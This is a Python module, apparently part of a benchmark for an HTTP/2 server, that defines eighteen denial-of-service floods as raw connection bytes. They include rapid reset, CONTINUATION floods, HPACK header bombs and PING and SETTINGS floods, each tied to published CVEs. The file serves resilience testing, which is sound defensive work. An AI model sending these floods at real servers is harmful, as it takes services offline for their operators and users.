"""The eighteen floods: HTTP/2 attacks of 2016 to 2026, each as the octets of one connection.

A flood is ``count`` units behind the hello and an ``opening``. A unit is made from the number of a
client's stream, so that floods of calls open one stream for each unit.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass

from benchmarks.faults.requests import HEAD, HELLO, head
from tei_manager.wire import frames, hpack
from tei_manager.wire.frames import DEFAULT_MAX_FRAME, ErrorCode, frame


@dataclass(frozen=True)
class Flood:
    """One attack.

    Args:
        name: As the report shows it.
        unit: Makes the octets of one unit from a stream number.
        frames: HTTP/2 frames in a unit.
        count: Units until the attacker has had enough.
        opening: Octets behind the hello.
        reads: Whether the attacker reads what the server sends.
    """

    name: str
    unit: Callable[[int], bytes]
    frames: int
    count: int
    opening: bytes = b""
    reads: bool = True

    def units(self) -> Iterator[bytes]:
        """Make the units, each with the next number of a client's stream."""
        first = 3 if self.opening else 1
        return (self.unit(number) for number in range(first, first + 2 * self.count, 2))

    @property
    def hello(self) -> bytes:
        """What is sent before the units."""
        return HELLO + self.opening


def _same(octets: bytes) -> Callable[[int], bytes]:
    return lambda _: octets


def _call(stream_id: int) -> bytes:
    return head(stream_id, end=True)


def _rapid_reset(stream_id: int) -> bytes:
    return head(stream_id) + frames.rst_stream(stream_id, ErrorCode.CANCEL)


def _window_zero(stream_id: int) -> bytes:
    return _call(stream_id) + frame(frames.WINDOW_UPDATE, 0, stream_id, bytes(4))


def _window_overflow(stream_id: int) -> bytes:
    return head(stream_id) + frames.window_update(stream_id, frames.LARGEST_WINDOW)


def _data_after_end(stream_id: int) -> bytes:
    return _call(stream_id) + frame(frames.DATA, 0, stream_id, b"x")


def _short_priority(stream_id: int) -> bytes:
    return _call(stream_id) + frame(frames.PRIORITY, 0, stream_id, bytes(4))


def _seed(value: bytes) -> bytes:
    """Return a call whose block puts ``x: value`` into the decoder's table."""
    entry = b"\x40" + hpack.integer(1, 7) + b"x" + hpack.integer(len(value), 7) + value
    return head(1, HEAD + entry, end=True)


def _references(count: int) -> Callable[[int], bytes]:
    """Make calls whose blocks name the youngest entry of the table ``count`` times."""
    block = HEAD + b"\xbe" * count
    return lambda stream_id: head(stream_id, block, end=True)


_NAMELESS = HEAD + b"\0\0\0" * 5000
_OPEN = head(1)
_UNFINISHED = frame(frames.HEADERS, 0, 1, HEAD)
_NO_WINDOW = frames.settings({frames.INITIAL_WINDOW_SIZE: 0})
_2400_SETTINGS = frame(frames.SETTINGS, 0, 0, (b"\0\x03" + bytes(4)) * 2400)
_PING = frames.ping(b"12345678")
_UNKNOWN = frame(0x20, 0xFF, 0, b"x")

FLOODS = (
    Flood("rapid reset", _rapid_reset, 2, 30_000),
    Flood("window update of nothing", _window_zero, 2, 20_000),
    Flood("window overflow", _window_overflow, 2, 20_000),
    Flood("DATA after the end", _data_after_end, 2, 20_000),
    Flood("PRIORITY of four octets", _short_priority, 2, 20_000),
    Flood(
        "CONTINUATION of 16 KiB",
        _same(frame(frames.CONTINUATION, 0, 1, bytes(DEFAULT_MAX_FRAME))),
        *(1, 20_000, _UNFINISHED),
    ),
    Flood(
        "CONTINUATION of nothing",
        _same(frame(frames.CONTINUATION, 0, 1)),
        *(1, 20_000, _UNFINISHED),
    ),
    Flood("HPACK bomb of 2016", _references(15_000), 1, 2_000, _seed(b"v" * 4000)),
    Flood("header bomb of 2026", _references(31_000), 2, 1_000, _NO_WINDOW + _seed(b"")),
    Flood("PING, not reading", _same(_PING), 1, 200_000, reads=False),
    Flood("PING", _same(_PING), 1, 200_000),
    Flood("SETTINGS, not reading", _same(frames.settings({})), 1, 200_000, reads=False),
    Flood("SETTINGS of 2,400 entries", _same(_2400_SETTINGS), 1, 2_000),
    Flood("empty DATA", _same(frame(frames.DATA, 0, 1)), 1, 200_000, _OPEN),
    Flood("fields without a name", lambda n: head(n, _NAMELESS, end=True), 1, 2_000),
    Flood("PRIORITY", _same(frame(frames.PRIORITY, 0, 3, bytes(5))), 1, 50_000, _OPEN),
    Flood("WINDOW_UPDATE", _same(frames.window_update(0, 1)), 1, 200_000),
    Flood("unknown frames", _same(_UNKNOWN), 1, 200_000),
)
"""The report's rows, in its order. Names, units and counts follow the published attacks:
CVE-2023-44487, CVE-2025-8671 (four of them), CVE-2024-27316 and -28182, CVE-2016-6581,
CVE-2026-49975, and CVE-2019-9511 to -9518."""
